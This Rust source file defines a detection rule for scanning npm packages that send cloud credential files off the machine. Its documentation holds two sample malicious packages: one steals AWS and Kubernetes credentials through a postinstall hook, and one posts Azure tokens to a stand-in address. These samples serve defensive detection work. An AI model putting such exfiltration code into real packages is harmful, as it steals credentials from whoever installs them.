//! # Cloud credentials leave the machine
//!
//! A credentials file of a cloud, a cluster or a container registry reaches a request, a look-up or a
//! command that sends.
//!
//! ## Why it matters
//!
//! With it an attacker reads the storage, starts machines and opens the secret stores of a company.
//!
//! ## Known benign uses
//!
//! A cloud's own SDK or command reads its file when it is called and sends what the file grants to that
//! cloud. At call, only a bare address, a chat, a paste or a tunnel is a finding.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os");
//! const bag = [".aws/credentials", ".kube/config"].map((name) => {
//!   try { return fs.readFileSync(os.homedir() + "/" + name, "utf8"); } catch { return ""; }
//! });
//! fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify(bag) }); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), http = require("http"), os = require("os"), path = require("path");
//! exports.check = () => {
//!   const text = fs.readFileSync(path.join(os.homedir(), ".azure", "accessTokens.json"));
//!   http.request({ hostname: "203.0.113.5", method: "POST" }).end(text); //~ here
//! };
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "one-cloud", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { readFile } = require("node:fs/promises");
//! const { homedir } = require("node:os");
//! exports.list = async (region) => {
//!   const text = await readFile(homedir() + "/.aws/credentials", "utf8");
//!   return fetch(`https://s3.${region}.amazonaws.com/`, { headers: { authorization: text.split("=")[1] } });
//! };
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)

use crate::prelude::*;

/// Cloud credentials leave the machine.
pub struct CloudCredentialsSent;

impl Rule for CloudCredentialsSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "cloud-credentials-sent",
            title: "Cloud credentials leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.001",
            covers: &["collect-cloud-files", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_credential = |source: &Source| *source == Source::SecretFile(FileClass::CloudCredential);
        for flow in facts.flows(is_credential, Sink::leaves_machine) {
            let is_odd = flow.sink.host().is_some_and(|host| takes_anything(host.class()))
                && flow.trigger != Trigger::Dormant;
            let is_cloud = flow.sink.host().is_some_and(|host| is_cloud(host.name()));
            if is_odd || flow.trigger.runs_unasked() && !is_cloud {
                found.flow(flow);
            }
        }
    }
}

/// Whether a host is of a kind that no cloud uses.
fn takes_anything(class: HostClass) -> bool {
    matches!(
        class,
        HostClass::RawAddress
            | HostClass::Messenger
            | HostClass::Paste
            | HostClass::Tunnel
            | HostClass::Hidden
    )
}

fn is_cloud(host: &str) -> bool {
    const ENDS: [&str; 6] = [
        ".amazonaws.com",
        ".googleapis.com",
        ".azure.com",
        ".microsoftonline.com",
        ".windows.net",
        ".docker.io",
    ];
    ENDS.iter().any(|end| host.ends_with(end))
}
